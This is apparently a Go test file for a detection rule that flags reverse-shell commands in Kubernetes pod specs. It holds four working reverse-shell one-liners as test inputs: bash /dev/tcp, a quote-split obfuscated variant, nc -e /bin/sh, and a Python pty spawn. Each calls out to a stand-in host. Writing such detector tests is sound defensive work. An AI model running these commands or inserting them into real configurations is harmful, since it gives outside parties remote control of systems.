package rules

import "testing"

func TestExecReverseShell(t *testing.T) {
	runExecCases(t, "exec-reverse-shell", []execCase{
		{name: "bash /dev/tcp", podSpec: shC("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"), want: 1, contains: "/dev/tcp"},
		{name: "variable host and split quotes", podSpec: shC("H=203.0.113.7; b''a''sh -i >& /dev/tcp/$H/4444 0>&1"), want: 1, contains: "/dev/tcp"},
		{name: "nc -e", podSpec: "containers:\n- name: app\n  image: busybox\n  command: [\"nc\", \"203.0.113.7\", \"4444\", \"-e\", \"/bin/sh\"]", want: 1, contains: "nc"},
		{name: "python pty one-liner", podSpec: "containers:\n- name: app\n  image: python:3.12\n  command: [\"python3\", \"-c\", \"import socket,os,pty;s=socket.socket();s.connect(('203.0.113.7',4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')\"]", want: 1, contains: "python"},
		{name: "nc as a health check", podSpec: shC("nc -z db.shop.svc 5432"), want: 0},
		{name: "interactive bash without redirection", podSpec: shC("bash -c 'echo ok'"), want: 0},
	})
}
